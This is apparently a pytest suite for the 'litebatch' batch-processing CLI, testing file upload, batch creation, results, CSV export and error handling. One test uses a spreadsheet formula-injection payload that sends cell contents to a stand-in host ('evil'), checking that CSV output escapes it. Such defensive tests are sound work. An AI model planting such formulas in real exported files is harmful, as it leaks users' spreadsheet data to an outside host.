"""The single steps: `litebatch batches` and `litebatch files` at a server."""

from __future__ import annotations

import csv
import json
import re
import subprocess
from io import StringIO
from pathlib import Path
from typing import Any

import pytest

from tests.cli.client.servers import QUICKLY, Direct, Server, told
from tests.cli.client.test_run import RUN, batches_of, failing, write
from tests.cli.processes import COMMAND, environment
from tests.cli.test_validate import pipe
from tests.harness import ids_of, lines


def uploaded(server: Server, folder: Path, content: bytes) -> str:
    write(folder, content)
    done = server.litebatch("files", "upload", "in.jsonl", cwd=folder)
    assert done.returncode == 0, done.stderr
    return str(told(done)["id"])


def ran(server: Server, folder: Path, content: bytes) -> str:
    """A batch that has ended."""
    write(folder, content)
    done = server.litebatch(*RUN, cwd=folder)
    assert done.returncode in (0, 3), done.stderr
    return str(told(done)["batch"])


def plain(server: Server, folder: Path, *arguments: str) -> list[list[str]]:
    done = server.litebatch(*arguments, "--output", "plain", cwd=folder)
    assert done.returncode == 0, done.stderr
    return [line.split("\t") for line in done.stdout.splitlines()]


def test_from_a_file_to_its_answers(server: Server, folder: Path) -> None:
    file_id = uploaded(server, folder, failing(3))
    created = server.litebatch("batches", "create", file_id, "--metadata", "a=b=c", cwd=folder)
    assert created.returncode == 0, created.stderr
    batch = told(created)
    assert batch["metadata"] == {"a": "b=c"}
    watched = server.litebatch("batches", "watch", batch["id"], *QUICKLY, cwd=folder)
    assert watched.returncode == 3
    assert told(watched)["request_counts"] == {"total": 3, "completed": 2, "failed": 1}
    ((_, status, *counts, _, _, cost),) = plain(server, folder, "batches", "list")
    assert (status, counts) == ("completed", ["3", "2", "1"])
    assert bool(cost) is not isinstance(server, Direct)
    results = server.litebatch("batches", "results", batch["id"], cwd=folder)
    assert results.returncode == 3
    assert ids_of(results.stdout.encode()) == ["request-0", "request-1", "request-2"]
    assert json.loads(results.stdout.splitlines()[-1])["custom_id"] == "request-0"  # errors come last
    saved = server.litebatch("batches", "results", batch["id"], "-o", "out.jsonl", cwd=folder)
    assert "out.jsonl has 3 rows" in saved.stderr
    assert saved.returncode == 3
    assert (folder / "out.jsonl").read_text() == results.stdout


def test_a_hyphen_is_stdout(direct: Direct, folder: Path) -> None:
    """And `./-` a file of that name."""
    batch_id = ran(direct, folder, lines(2))
    batch = json.loads(direct.litebatch("batches", "get", batch_id, cwd=folder).stdout)
    before = sorted(folder.iterdir())
    for words in (("batches", "results", batch_id), ("files", "content", batch["output_file_id"])):
        told_, hyphen = (direct.litebatch(*words, *out, cwd=folder) for out in ((), ("-o", "-")))
        assert (hyphen.returncode, hyphen.stdout) == (0, told_.stdout)
        assert len(ids_of(hyphen.stdout.encode())) == 2
        assert sorted(folder.iterdir()) == before
        named = direct.litebatch(*words, "--out", "./-", cwd=folder)
        assert (named.returncode, named.stdout) == (0, "")
        assert (folder / "-").read_text() == hyphen.stdout
        (folder / "-").unlink()


def test_one_key_makes_one_batch(gateway: Server, folder: Path) -> None:
    file_id = uploaded(gateway, folder, lines(1))
    keyed = ("batches", "create", file_id, "--idempotency-key", "mine")
    first, again = (told(gateway.litebatch(*keyed, cwd=folder)) for _ in range(2))
    other = told(gateway.litebatch("batches", "create", file_id, cwd=folder))
    assert first["id"] == again["id"] != other["id"]


@pytest.mark.parametrize("key", ["Schlüssel", "one\ntwo"])
def test_a_key_that_fits_into_no_header_is_refused(direct: Direct, folder: Path, key: str) -> None:
    done = direct.litebatch("batches", "create", "file-1", "--idempotency-key", key, cwd=folder)
    assert done.returncode == 2
    assert "no idempotency key" in done.stderr
    assert direct.calls("create_batch") == 0


def test_a_cost_that_is_too_high_is_refused(gateway: Server, folder: Path) -> None:
    file_id = uploaded(gateway, folder, lines(1))
    done = gateway.litebatch("batches", "create", file_id, "--max-cost", "0.01", cwd=folder)
    assert done.returncode == 1
    assert "(400 from POST /batches)" in done.stderr


def test_lists_go_over_pages(direct: Direct, folder: Path) -> None:
    direct.call(lambda: direct.account.add_foreign_batches(130))
    assert len(plain(direct, folder, "batches", "list", "--limit", "120")) == 120
    assert len(plain(direct, folder, "batches", "list", "--limit", "500")) == 130
    assert len(plain(direct, folder, "batches", "list")) == 20


def test_a_batch_far_down_the_list_is_found(direct: Direct, folder: Path) -> None:
    batch_id = ran(direct, folder, lines(1))
    direct.call(lambda: direct.account.add_foreign_batches(230))
    assert ran(direct, folder, lines(1)) == batch_id


def test_requests_and_answers_side_by_side(server: Server, folder: Path) -> None:
    """In the order of the requests, with those that have no row, without rows of others."""
    batch_id = ran(server, folder, failing(4))
    asked = lines(6).splitlines()
    (folder / "some.jsonl").write_bytes(b"\n\n".join(asked[:1] + asked[2:]))
    results = ("batches", "results", batch_id, "--join", "some.jsonl")
    done = server.litebatch(*results, cwd=folder)
    rows = [json.loads(line) for line in done.stdout.splitlines()]
    assert [row["custom_id"] for row in rows] == [f"request-{number}" for number in (0, 2, 3, 4, 5)]
    assert [bool(row["response"]) for row in rows] == [True, True, True, False, False]
    assert rows[1]["request"] == json.loads(asked[2])["body"]
    assert rows[1]["response"]["body"]["choices"]
    assert rows[4]["error"]["code"] == "no_result"
    assert "left out: 1 row of requests that the input has not" in done.stderr
    table = server.litebatch(*results, "--format", "csv", cwd=folder)
    head, *cells = csv.reader(StringIO(table.stdout))
    assert head == ["custom_id", "status", "text", "request"]
    assert [row[1] for row in cells] == ["400", "200", "200", "no_result", "no_result"]
    assert cells[1][2] == "echo: Say 2."
    assert json.loads(cells[1][3]) == json.loads(asked[2])["body"]


def test_a_line_that_is_no_request_is_named(direct: Direct, folder: Path) -> None:
    batch_id = ran(direct, folder, lines(2))
    (folder / "odd.jsonl").write_bytes(b"\n".join([b"", *lines(2).splitlines(), b"", b'{"custom_id": 7}']))
    done = direct.litebatch("batches", "results", batch_id, "--join", "odd.jsonl", cwd=folder)
    assert done.returncode == 1
    assert 'error: line 5 of the input is no request: {"custom_id": 7}' in done.stderr


def test_requests_may_come_through_a_pipe_to_their_answers(direct: Direct, folder: Path) -> None:
    batch_id = ran(direct, folder, lines(3))
    with pipe(folder / "pipe", lines(3)):
        done = direct.litebatch("batches", "results", batch_id, "--join", "pipe", cwd=folder)
    assert done.returncode == 0, done.stderr
    rows = [json.loads(line) for line in done.stdout.splitlines()]
    assert [row["custom_id"] for row in rows] == ["request-0", "request-1", "request-2"]
    assert all(row["response"] for row in rows)


def test_what_comes_through_a_pipe_is_not_uploaded(direct: Direct, folder: Path) -> None:
    """How long it is has to be said before it is sent."""
    with pipe(folder / "pipe", lines(1)):
        done = direct.litebatch("files", "upload", "pipe", cwd=folder)
    assert done.returncode == 2
    assert "error: pipe is no file, and its size is not known: write it into one" in done.stderr


def test_a_table_of_texts(direct: Direct, folder: Path) -> None:
    said = 'a "quoted", long\nanswer'
    batch_id = ran(direct, folder, lines(1, messages=[{"role": "user", "content": said}]))
    done = direct.litebatch("batches", "results", batch_id, "--format", "csv", cwd=folder)
    assert list(csv.reader(StringIO(done.stdout, newline=""))) == [
        ["custom_id", "status", "text"],
        ["request-0", "200", f"echo: {said}"],
    ]


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t"])
def test_no_text_of_a_table_is_a_formula(direct: Direct, folder: Path, begin: str) -> None:
    """What a model or a caller says may be anybody's."""
    said = f'{begin}HYPERLINK("http://evil/?"&A1)'
    row = json.loads(lines(1)) | {"custom_id": said}
    row["body"]["metadata"] = {"simulate": json.dumps({"answer": said})}
    batch_id = ran(direct, folder, json.dumps(row).encode())
    done = direct.litebatch("batches", "results", batch_id, "--format", "csv", cwd=folder)
    _, cells = csv.reader(StringIO(done.stdout, newline=""))
    assert cells == [f"'{said}", "200", f"'{said}"]


def test_there_are_no_results_before_the_end(direct: Direct, folder: Path) -> None:
    file_id = uploaded(direct, folder, lines(1))
    with direct.holding():
        batch = told(direct.litebatch("batches", "create", file_id, cwd=folder))
        done = direct.litebatch("batches", "results", batch["id"], "-o", "out", cwd=folder)
    assert done.returncode == 1
    assert "there are results once it has ended" in done.stderr
    assert not (folder / "out").exists()


def test_what_an_earlier_file_holds_stays_unless_all_comes(direct: Direct, folder: Path) -> None:
    batch_id = ran(direct, folder, lines(1))
    (folder / "out").write_text("earlier")
    direct.fault(call="stream_file", status=403, times=None)
    done = direct.litebatch("batches", "results", batch_id, "-o", "out", cwd=folder)
    assert done.returncode == 1
    assert (folder / "out").read_text() == "earlier"
    nowhere = direct.litebatch("files", "content", "file-x", "-o", "no/out", cwd=folder)
    assert (nowhere.returncode, "no/out cannot be written" in nowhere.stderr) == (1, True)


def test_the_story_of_a_batch(gateway: Server, folder: Path) -> None:
    batch_id = ran(gateway, folder, lines(1))
    done = gateway.litebatch("batches", "events", batch_id, "--follow", cwd=folder)
    assert done.returncode == 0, done.stderr
    types = [json.loads(line)["type"] for line in done.stdout.splitlines()]
    assert types[0] == "batch.created"
    assert types.index("batch.created") < types.index("batch.completed")
    with gateway.on_terminal("batches", "events", batch_id, cwd=folder) as shown:
        assert shown.end() == 0
        assert "The batch completed: 1 of 1 request succeeded" in " ".join(shown.shown.split())
        assert shown.shown.startswith("TIME (UTC) ")


def test_what_a_server_has_not_is_told(direct: Direct, folder: Path) -> None:
    batch_id = ran(direct, folder, lines(1))
    for command, said in (("events", "tell what has happened"), ("retry", "run the rest of a batch again")):
        done = direct.litebatch("batches", command, batch_id, cwd=folder)
        assert done.returncode == 1
        assert f"this server cannot {said}" in done.stderr
        unknown = direct.litebatch("batches", command, "batch_x", cwd=folder)
        assert unknown.returncode == 1
        assert "(404 from GET /batches/batch_x)" in unknown.stderr


def test_several_batches_at_a_time(direct: Direct, folder: Path) -> None:
    file_id = uploaded(direct, folder, lines(2))
    with direct.holding():
        every = [told(direct.litebatch("batches", "create", file_id, cwd=folder))["id"] for _ in range(2)]
        with direct.on_terminal("batches", "watch", *every, *QUICKLY, cwd=folder) as shown:
            for each in every:
                shown.read_until(each)
            ended = direct.litebatch("batches", "cancel", *every, cwd=folder)
            assert ended.returncode == 0, ended.stderr
            assert shown.end() == 3
    assert [row[1] for row in plain(direct, folder, "batches", "get", *every)] == ["cancelled"] * 2


def test_none_of_several_keeps_the_others_back(gateway: Server, folder: Path) -> None:
    ended = ran(gateway, folder, failing(2))
    files = [uploaded(gateway, folder, lines(3)) for _ in range(2)]
    with gateway.holding():
        made = [told(gateway.litebatch("batches", "create", each, cwd=folder))["id"] for each in files]
        for form in ("table", "plain"):
            ids = (made.pop(0), ended) if form == "table" else (ended, made.pop())
            done = gateway.litebatch("batches", "cancel", *ids, "--output", form, cwd=folder)
            assert done.returncode == 1
            assert "error: Cannot cancel a batch with status 'completed'." in done.stderr
            assert ids[form == "plain"] in done.stdout
    retried = gateway.litebatch("batches", "retry", "nothing", ended, cwd=folder)
    assert (retried.returncode, told(retried)["metadata"]["litebatch_retry_of"]) == (1, ended)
    gone = gateway.litebatch("files", "delete", "file-nothing", files[0], "--yes", cwd=folder)
    assert gone.returncode == 1
    assert gone.stderr.splitlines()[1:] == [f"{files[0]} is deleted"]
    assert "error: No such File object: file-nothing" in gone.stderr


def test_files(server: Server, folder: Path) -> None:
    name = 'in "1" ä.jsonl'
    (folder / name).write_bytes(lines(2))
    sent = server.litebatch("files", "upload", name, cwd=folder)
    assert sent.returncode == 0, sent.stderr
    file_id = told(sent)["id"]
    (row,) = plain(server, folder, "files", "list", "--purpose", "batch")
    assert (row[0], row[1], row[3]) == (file_id, str(len(lines(2))), "batch")
    assert plain(server, folder, "files", "get", file_id) == [row]
    assert plain(server, folder, "files", "list", "--purpose", "batch_output") == []
    saved = server.litebatch("files", "content", file_id, "-o", "copy", cwd=folder)
    assert (saved.returncode, (folder / "copy").read_bytes()) == (0, lines(2))
    unsure = server.litebatch("files", "delete", file_id, cwd=folder)
    assert (unsure.returncode, "use --yes" in unsure.stderr) == (2, True)
    gone = server.litebatch("files", "delete", file_id, "--yes", cwd=folder)
    assert (gone.returncode, gone.stderr) == (0, f"{file_id} is deleted\n")
    assert server.litebatch("files", "get", file_id, cwd=folder).returncode == 1


def test_a_large_file_on_a_terminal(direct: Direct, folder: Path) -> None:
    """Letters of several bytes stay whole, wherever the blocks end that are read."""
    (folder / "words.txt").write_text("\n".join(["漢字" * 20] * 2500) + "\n")
    sent = direct.litebatch("files", "upload", "words.txt", "--purpose", "user_data", cwd=folder)
    assert sent.returncode == 0, sent.stderr
    with direct.on_terminal("files", "content", told(sent)["id"], cwd=folder) as shown:
        assert shown.end() == 0
    assert "\ufffd" not in shown.shown
    assert shown.shown.count("漢字" * 20) == 2500


def test_all_about_a_batch_on_a_terminal(gateway: Server, folder: Path) -> None:
    batch_id = ran(gateway, folder, failing(2))
    with gateway.on_terminal("batches", "get", batch_id, cwd=folder) as shown:
        assert shown.end() == 0
        assert "1 of 2 succeeded, 1 did not" in shown.shown
        assert re.search(r"created_at +[-\d]{10} [:\d]{8} UTC", shown.shown)
        assert "litebatch_run: " in shown.shown


@pytest.mark.parametrize("out", [(), ("-o", "/dev/stdout")], ids=["stdout", "a pipe with a name"])
def test_a_reader_that_goes_away_is_no_error_of_ours(
    direct: Direct, folder: Path, out: tuple[str, ...]
) -> None:
    long = "x" * 300
    batch_id = ran(direct, folder, lines(500, messages=[{"role": "user", "content": long}]))
    with subprocess.Popen(
        [*COMMAND, "batches", "results", batch_id, *out],
        env=environment(direct.environ),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    ) as process:
        assert process.stdout is not None
        assert process.stderr is not None
        process.stdout.readline()
        process.stdout.close()
        assert (process.stderr.read(), process.wait()) == (b"", 1)


def test_where_there_is_no_room_for_the_output(direct: Direct, folder: Path) -> None:
    batch_id = ran(direct, folder, lines(1))
    batch = json.loads(direct.litebatch("batches", "get", batch_id, cwd=folder).stdout)
    for words in (
        ("batches", "results", batch_id),
        ("batches", "list"),
        ("files", "content", batch["output_file_id"]),
    ):
        with Path("/dev/full").open("wb") as full:
            done = subprocess.run(
                [*COMMAND, *words],
                env=environment(direct.environ),
                stdout=full,
                stderr=subprocess.PIPE,
                text=True,
                check=False,
            )
        said = "error: no more can be written: No space left on device\n"
        assert (done.returncode, done.stderr) == (1, said), words


@pytest.mark.parametrize("arguments", [("batches", "get"), ("files", "content"), ("batches", "list", "x")])
def test_wrong_use(folder: Path, arguments: tuple[str, ...], direct: Direct) -> None:
    assert direct.litebatch(*arguments, cwd=folder).returncode == 2


def test_a_run_is_told_apart_by_what_counts(direct: Direct, folder: Path) -> None:
    """Not by the name of the file, nor by where its answers go."""
    batch_id = ran(direct, folder, lines(1))
    (folder / "in.jsonl").rename(folder / "other.jsonl")
    again = direct.litebatch("batches", "run", "other.jsonl", "-o", "x", *QUICKLY, cwd=folder)
    assert told(again)["batch"] == batch_id
    write(folder, lines(1) + b"\n")
    other = direct.litebatch(*RUN, cwd=folder)
    assert told(other)["batch"] != batch_id
    metadata: list[Any] = [batch["metadata"]["litebatch_run"] for batch in batches_of(direct, folder)]
    assert len(set(metadata)) == 2


def test_an_input_that_was_deleted_is_sent_again(gateway: Server, folder: Path) -> None:
    """Although its idempotency key is known."""
    write(folder, lines(1))
    with gateway.on_terminal("batches", "run", "in.jsonl", *QUICKLY, cwd=folder) as shown:
        shown.read_until("[y/N]: ")
        shown.type("y\n")
        shown.read_until("Create the batch? [y/N]: ")
        shown.type("n\n")
        assert shown.end() == 1
    (file,) = plain(gateway, folder, "files", "list")
    assert gateway.litebatch("files", "delete", file[0], "--yes", cwd=folder).returncode == 0
    done = gateway.litebatch(*RUN, cwd=folder)
    assert done.returncode == 0, done.stderr


def test_what_happens_next_is_followed(gateway: Server, folder: Path) -> None:
    write(folder, lines(1))
    with gateway.holding():
        file_id = uploaded(gateway, folder, lines(1))
        batch = told(gateway.litebatch("batches", "create", file_id, cwd=folder))
        with gateway.on_terminal("batches", "events", batch["id"], "--follow", cwd=folder) as shown:
            shown.read_until("The batch was created")
            gateway.litebatch("batches", "cancel", batch["id"], cwd=folder)
            assert shown.end() == 0
    assert "The batch was cancelled" in shown.shown
    assert shown.shown.count("EVENT") == 1
